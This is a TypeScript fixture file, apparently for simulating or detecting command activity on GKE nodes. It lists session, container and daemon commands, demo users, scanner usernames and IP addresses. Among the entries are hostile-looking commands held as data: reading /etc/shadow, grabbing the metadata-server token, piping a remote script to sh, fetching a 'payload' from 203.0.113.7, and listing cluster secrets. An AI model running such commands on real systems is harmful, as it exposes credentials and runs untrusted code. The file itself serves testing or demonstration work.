/** A command line and the executable the kernel resolves it to. */
export type Command = { exe: string; argv: string[] };

const command = (exe: string, ...args: string[]): Command => ({
  exe,
  argv: [exe.slice(exe.lastIndexOf('/') + 1), ...args],
});

/** What an administrator types in an SSH session on a COS node. */
export const SESSION_COMMANDS: Command[] = [
  command('/usr/bin/id'),
  command('/usr/bin/whoami'),
  command('/bin/ls', '-la', '/root'),
  command('/bin/cat', '/etc/shadow'),
  command('/usr/bin/journalctl', '-u', 'kubelet', '--since', '10 min ago'),
  command('/usr/bin/systemctl', 'status', 'kubelet'),
  command('/home/kubernetes/bin/crictl', 'ps', '-a'),
  command('/home/kubernetes/bin/crictl', 'exec', '-it', '3f2a9c', 'sh'),
  command('/usr/bin/toolbox'),
  command('/bin/ps', 'aux'),
  command(
    '/usr/bin/curl',
    '-s',
    '-H',
    'Metadata-Flavor: Google',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  ),
  command('/bin/bash', '-c', 'echo "$(date)" >> /tmp/notes'),
];

/** Commands run inside containers (`kubectl exec`, entrypoints, jobs). */
export const CONTAINER_COMMANDS: Command[] = [
  command('/usr/bin/apt-get', 'update'),
  command('/usr/bin/apt-get', 'install', '-y', 'curl'),
  command('/usr/bin/curl', '-sSL', 'https://example.com/install.sh'),
  command('/bin/sh', '-c', 'curl -s https://example.com/run.sh | sh'),
  command('/usr/bin/wget', '-q', '-O-', 'http://203.0.113.7/payload'),
  command('/bin/cat', '/etc/passwd'),
  command('/usr/bin/env'),
  command('/bin/ls', '/var/run/secrets/kubernetes.io/serviceaccount'),
  command('/usr/local/bin/kubectl', 'get', 'secrets', '-A'),
  command('/usr/bin/python3', '-c', 'import os; print(os.uname())'),
  command('/bin/nc', '-zv', '10.0.0.1', '443'),
];

/** What node daemons (kubelet, containerd) start on their own. */
export const DAEMON_COMMANDS: Command[] = [
  command('/home/kubernetes/bin/crictl', 'ps', '-q'),
  command('/sbin/iptables', '-w', '-t', 'nat', '-S', 'KUBE-SERVICES'),
  command(
    '/bin/mount',
    '-t',
    'tmpfs',
    'tmpfs',
    '/var/lib/kubelet/pods/volumes',
  ),
  command(
    '/usr/bin/nsenter',
    '-t',
    '1',
    '-m',
    '--',
    'systemctl',
    'is-active',
    'kubelet',
  ),
  command('/usr/sbin/conntrack', '-D', '-p', 'udp'),
];

/** Shells `kubectl exec -t` starts in a container. */
export const EXEC_SHELLS: Command[] = [
  command('/bin/sh'),
  command('/bin/bash'),
  command('/bin/busybox', 'sh'),
];

/** OS Login users of the demo project. */
export const USERS = [
  { name: 'alice_example_com', uid: 1001001 },
  { name: 'bob_example_com', uid: 1001002 },
  { name: 'sre_oncall_example_com', uid: 1001003 },
];

/** Names scanners try on port 22. */
export const GUESSED_USERS = [
  'root',
  'admin',
  'ubuntu',
  'test',
  'oracle',
  'git',
];

/** Outside addresses (documentation ranges) that log in or try to. */
export const ADMIN_ADDRESSES = ['35.235.240.17', '35.235.241.80', '10.128.0.5'];
export const SCANNER_ADDRESSES = [
  '198.51.100.23',
  '203.0.113.77',
  '192.0.2.140',
  '198.51.100.201',
];
